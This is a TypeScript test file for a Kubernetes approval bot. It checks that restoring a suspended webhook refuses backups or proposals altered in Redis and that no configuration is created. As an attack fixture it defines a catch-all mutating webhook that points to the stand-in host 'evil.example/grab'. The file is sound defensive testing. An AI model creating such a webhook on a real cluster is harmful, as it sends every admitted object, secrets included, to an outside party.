import { beforeAll, describe, expect, it } from '@jest/globals';
import type { KubeObject } from '../../src/cluster/snapshot.js';
import { neutralizeMrkdwn } from '../../src/text/neutralize-mrkdwn.js';
import type { StoredProposal } from '../../src/store/proposal-store.js';
import type { StoredBackup } from '../../src/store/approval-backups.js';
import { useApprovalBot } from '../support/start-approval-bot.js';

// eslint-disable-next-line @typescript-eslint/no-explicit-any
type Any = any;

/**
 * Attack: using webhook.restore to create an arbitrary configuration. Whoever can
 * write Redis can put anything into a backup slot (`k8s-health:backup:<id>`) or edit the undo proposal
 * (`k8s-health:proposal:<id>`). Restore must only ever re-create the exact object its suspend backed
 * up: the backup's seal (MAC with K8S_HEALTH_PLAN_SECRET over the object's hash and the request and
 * action that saved it) must verify, its lineage (that suspend, this kind and name) must hold, and its
 * hash and uid are signed with the restore plan and checked again right before the POST. Every
 * tampering is refused with a clear line, and no configuration is created (not even dry-run).
 */
const webhook = (name: string, uid: string): KubeObject =>
  ({
    apiVersion: 'admissionregistration.k8s.io/v1',
    kind: 'ValidatingWebhookConfiguration',
    metadata: { name, uid },
    webhooks: [
      {
        name: `${name}.svc`,
        failurePolicy: 'Fail',
        rules: [{ operations: ['CREATE'], apiGroups: [''], apiVersions: ['v1'], resources: ['pods'] }],
      },
    ],
  }) as unknown as KubeObject;
/** What an attacker would like to create: a mutating webhook that sees every object of every kind. */
const evil = {
  apiVersion: 'admissionregistration.k8s.io/v1',
  kind: 'MutatingWebhookConfiguration',
  metadata: { name: 'kyverno-policy' },
  webhooks: [
    {
      name: 'grab.evil',
      clientConfig: { url: 'https://evil.example/grab' },
      rules: [{ operations: ['*'], apiGroups: ['*'], apiVersions: ['*'], resources: ['*/*'] }],
    },
  ],
};

const bot = useApprovalBot({
  objects: [webhook('kyverno-policy', 'uid-kyverno'), webhook('other-policy', 'uid-other')],
});
let suspendA = '';
let suspendB = '';
let undoA = '';

beforeAll(async () => {
  // Two real suspends through two approvals each: sealed backups in their slots, an undo button each.
  for (const name of ['kyverno-policy', 'other-policy']) {
    const run = await bot.runApproved({
      action: 'webhook.suspend',
      params: { kind: 'Validating', name },
      label: `Suspend webhook ${name}`,
      risk: 'r',
    });
    if (run.request.status !== 'succeeded') throw new Error(`suspend ${name}: ${run.request.result}`);
    if (name === 'kyverno-policy') suspendA = run.requestId;
    else suspendB = run.requestId;
  }
  const result = await bot.resultMessage(suspendA);
  undoA = (result.body.blocks as Any[]).find((b) => b.type === 'actions').elements[0].value;
}, 90_000);

const backupKey = (id: string) => `k8s-health:backup:${id}`;
const posts = () => bot.kube.writes.filter((w) => w.method === 'POST').length;
const readBackup = async (id: string) => JSON.parse((await bot.redis.get(backupKey(id)))!) as StoredBackup;
/** Run `fn` with the backup slot of request A changed, then put the genuine backup back. */
async function withSlot(
  change: (b: StoredBackup) => StoredBackup | Promise<StoredBackup>,
  fn: () => Promise<void>,
): Promise<void> {
  const genuine = (await bot.redis.get(backupKey(suspendA)))!;
  await bot.redis.set(backupKey(suspendA), JSON.stringify(await change(JSON.parse(genuine))), 'KEEPTTL');
  try {
    await fn();
  } finally {
    await bot.redis.set(backupKey(suspendA), genuine, 'KEEPTTL');
  }
}
/**
 * A refusal reason as the ephemeral reply shows it: error text goes through the mrkdwn neutralizer,
 * which turns an `_` that could open or close italics into `＿` — request ids are random, so one such
 * as `r_-bzy…` comes out as `r＿-bzy…`.
 */
const shown = (reason: string) => neutralizeMrkdwn(reason, { max: 1000 });
/** Click the undo button: the ephemeral refusal text (no request may be posted). */
async function refusedProposal(proposalId = undoA): Promise<string> {
  const p = await bot.clickProposal(proposalId);
  expect(p.requestId).toBeUndefined();
  return String(p.ephemeral!.text);
}

describe('webhook.restore only re-creates the exact object its suspend backed up', () => {
  it('an arbitrary configuration written into the backup slot (no seal): refused at proposal', async () => {
    const before = posts();
    await withSlot(
      () => ({
        what: 'MutatingWebhookConfiguration kyverno-policy',
        object: evil as unknown as KubeObject,
        savedAt: new Date().toISOString(),
      }),
      async () => {
        expect(await refusedProposal()).toBe(
          `Cannot propose *Restore webhook kyverno-policy*: ${shown(`the backup stored for request ${suspendA} carries no seal (saved before backups were sealed, or written by something other than the executor): refusing to use it`)}`,
        );
      },
    );
    expect(posts()).toBe(before);
  });

  it('the genuine backup with its webhooks edited, seal kept: refused (the object no longer matches the sealed hash)', async () => {
    const before = posts();
    await withSlot(
      (b) => {
        (b.object as Any).webhooks.push(evil.webhooks[0]);
        return b;
      },
      async () => {
        expect(await refusedProposal()).toContain(
          shown(
            `the backup stored for request ${suspendA} was changed after it was saved (its object no longer matches the sealed hash): refusing to use it`,
          ),
        );
      },
    );
    expect(posts()).toBe(before);
  });

  it("another request's genuinely sealed backup copied into the slot: refused (saved by another request)", async () => {
    const before = posts();
    const other = await readBackup(suspendB);
    await withSlot(
      () => other,
      async () => {
        expect(await refusedProposal()).toContain(
          shown(`the backup stored for request ${suspendA} was saved by request ${suspendB}, not by this one`),
        );
      },
    );
    expect(posts()).toBe(before);
  });

  it('the undo proposal edited to restore another name from this backup: refused (lineage)', async () => {
    const before = posts();
    const key = `k8s-health:proposal:${undoA}`;
    const genuine = (await bot.redis.get(key))!;
    const forged = JSON.parse(genuine) as StoredProposal;
    forged.proposal = { ...forged.proposal, params: { ...forged.proposal.params, name: 'other-policy' } };
    await bot.redis.set(key, JSON.stringify(forged), 'KEEPTTL');
    try {
      expect(await refusedProposal()).toContain(
        `was saved by webhook.suspend {"kind":"Validating","name":"kyverno-policy"}, not by the suspend of ValidatingWebhookConfiguration other-policy`,
      );
    } finally {
      await bot.redis.set(key, genuine, 'KEEPTTL');
    }
    expect(posts()).toBe(before);
  });

  it('the backup changed after the restore was proposed and approved: the executor refuses, no POST', async () => {
    const { requestId, message } = await bot.clickProposal(undoA);
    expect(JSON.stringify(message!.body.blocks)).toContain('dryRun=All) accepted: POST');
    const realPosts = () => bot.kube.writes.filter((w) => w.method === 'POST' && !w.dryRun).length;
    const before = realPosts();
    await bot.pauseWorker();
    await bot.vote(requestId!, 'U0ANN');
    expect(await bot.vote(requestId!, 'U0BEN')).toContain('last one needed');
    await withSlot(
      (b) => {
        (b.object as Any).webhooks[0].clientConfig = { url: 'https://evil.example/grab' };
        return b;
      },
      async () => {
        bot.resumeWorker();
        const done = await bot.waitStatus(requestId!, ['succeeded', 'failed', 'aborted']);
        expect(done.status).toBe('aborted');
        expect(done.result).toBe(
          `aborted, nothing was changed: the backup stored for request ${suspendA} was changed after it was saved (its object no longer matches the sealed hash): refusing to use it`,
        );
      },
    );
    expect(realPosts()).toBe(before);
    expect(bot.kube.find('ValidatingWebhookConfiguration', 'kyverno-policy')).toBeUndefined();
    expect(bot.kube.find('MutatingWebhookConfiguration', 'kyverno-policy')).toBeUndefined();
  }, 60_000);

  it('with the genuine backup, the restore re-creates exactly the suspended object', async () => {
    const run = await (async () => {
      const { requestId } = await bot.clickProposal(undoA);
      await bot.vote(requestId!, 'U0ANN');
      await bot.vote(requestId!, 'U0BEN');
      return bot.waitStatus(requestId!, ['succeeded', 'failed', 'aborted']);
    })();
    expect(run.status).toBe('succeeded');
    const restored = bot.kube.find('ValidatingWebhookConfiguration', 'kyverno-policy') as Any;
    expect(restored.webhooks).toEqual((webhook('kyverno-policy', 'x') as Any).webhooks);
  }, 60_000);
});
